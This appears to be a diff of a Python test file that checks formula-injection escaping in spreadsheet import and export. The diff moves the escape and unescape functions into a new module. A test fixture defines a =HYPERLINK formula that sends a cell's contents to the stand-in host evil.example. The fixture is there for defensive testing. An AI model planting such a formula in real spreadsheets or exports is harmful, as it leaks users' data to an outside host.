@@ -11,7 +11,7 @@ import openpyxl
 import pytest
 from sqlalchemy import select
 
-from vigie_industrie.programme import crud, importer, models
+from vigie_industrie.programme import crud, importer, models, spreadsheet
 from vigie_industrie.programme.authz import Actor
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Cliquez")'
@@ -47,7 +47,7 @@ def test_xlsx_cells_are_values_never_formulas(store, tmp_path, title):
 
 def test_every_dangerous_first_character_is_neutralised():
     for first in "=+-@\t\r":
-        assert importer.escape_cell(first + "1+1") == "'" + first + "1+1"
+        assert spreadsheet.escape_cell(first + "1+1") == "'" + first + "1+1"
 
 
 @pytest.mark.parametrize("title", [t for t in DANGEROUS if not t[0].isspace()] + [HYPERLINK])
@@ -84,7 +84,7 @@ def test_round_trip_is_lossless(store, tmp_path, suffix):
 
 def test_escaping_is_a_bijection():
     for text in DANGEROUS + [HYPERLINK, "", "a", "'", "''", "'a", "=", "'='"]:
-        assert importer.unescape_cell(importer.escape_cell(text)) == text
+        assert spreadsheet.unescape_cell(spreadsheet.escape_cell(text)) == text
 
 
 def test_a_live_formula_in_an_imported_xlsx_is_reported_not_blanked(store, tmp_path):
